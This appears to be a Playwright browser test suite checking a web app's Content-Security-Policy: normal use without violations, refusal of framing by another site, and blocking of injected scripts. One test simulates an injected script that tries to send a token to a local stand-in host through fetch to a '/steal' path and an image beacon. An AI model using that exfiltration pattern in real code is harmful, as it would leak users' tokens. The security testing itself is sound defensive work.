// Content-Security-Policy on the app and the sign-in pages (what an injected script may do), in the
// real browser: the whole app works under it (sign-in, upload, preview dialog, workbench, sign-out)
// with no violation, while what an injected script would do (run inline code, send data to another
// host) and framing by another site are refused.
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, type Page, test } from '@playwright/test'
import { validPackage } from '../fixtures/packages.ts'
import { choose, row, uniqueName } from '../helpers/package-screen.ts'
import { signIn } from '../helpers/sign-in.ts'
import { BASE_URL } from './env.ts'

/** The browser's own reports of blocked loads and scripts, from every frame of the page. */
function violations(page: Page): string[] {
  const seen: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) seen.push(message.text())
  })
  return seen
}

/** Another site: it counts the requests it gets and serves `html` at /. */
async function otherSite(html = ''): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = []
  const server = http.createServer((request, response) => {
    hits.push(request.url ?? '')
    response.setHeader('Content-Type', 'text/html')
    response.end(html)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  }
}

test('the app works under its policy from sign-in to sign-out, without one violation', async ({ page }) => {
  const blocked = violations(page)
  await signIn(page)
  const name = uniqueName('csp')
  await choose(page, name, validPackage('csp'))
  await expect(row(page, name)).toHaveCount(1)
  await row(page, name)
    .getByRole('button', { name: /^Preview/ })
    .click()
  await expect(page.getByRole('dialog')).toContainText('Preview')
  await page.getByRole('link', { name: 'Open in the QA workbench' }).click()
  await expect(page.frameLocator('.device iframe').locator('#ad')).toBeVisible()
  await page.goto(`${BASE_URL}main`)
  await page.getByRole('button', { name: /Log out/ }).click()
  await expect(page).toHaveURL(/\/login$/)
  expect(blocked).toEqual([])
})

test('the sign-in page keeps its own style under its policy, and nothing else', async ({ page }) => {
  const blocked = violations(page)
  await page.goto(`${BASE_URL}login`)
  const button = page.getByRole('button', { name: 'Sign in' })
  await expect(button).toBeVisible()
  const response = await page.request.get(page.url())
  expect(response.headers()['content-security-policy']).toContain("frame-ancestors 'none'")
  expect(await button.evaluate((b) => getComputedStyle(b).backgroundColor)).toBe('rgb(36, 87, 214)')
  expect(blocked).toEqual([])
})

test('an injected script runs no inline code and reaches no other host', async ({ page }) => {
  const other = await otherSite()
  try {
    await signIn(page)
    const blocked = violations(page)
    const outcome = await page.evaluate(async (target) => {
      const inline = document.createElement('script')
      inline.textContent = 'window.__injected = true'
      document.body.append(inline)
      const sent = await fetch(`${target}/steal?token=x`, { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      )
      const beacon = new Image()
      beacon.src = `${target}/beacon?token=x`
      await new Promise((resolve) => {
        beacon.onload = beacon.onerror = resolve
      })
      return { inlineRan: (window as { __injected?: boolean }).__injected === true, sent }
    }, other.origin)
    expect(outcome).toEqual({ inlineRan: false, sent: 'refused' })
    expect(other.hits).toEqual([])
    expect(blocked.length).toBeGreaterThanOrEqual(3)
  } finally {
    await other.close()
  }
})

test('another site cannot frame the app or the sign-in page', async ({ page }) => {
  const other = await otherSite(
    `<iframe id="app" src="${BASE_URL}main"></iframe><iframe id="login" src="${BASE_URL}login"></iframe>`,
  )
  try {
    const blocked = violations(page)
    await page.goto(other.origin)
    await expect
      .poll(() => blocked.filter((text) => text.includes('frame-ancestors')).length)
      .toBeGreaterThanOrEqual(2)
    for (const frame of page.frames().slice(1)) {
      expect(await frame.locator('#root, form').count()).toBe(0)
    }
  } finally {
    await other.close()
  }
})
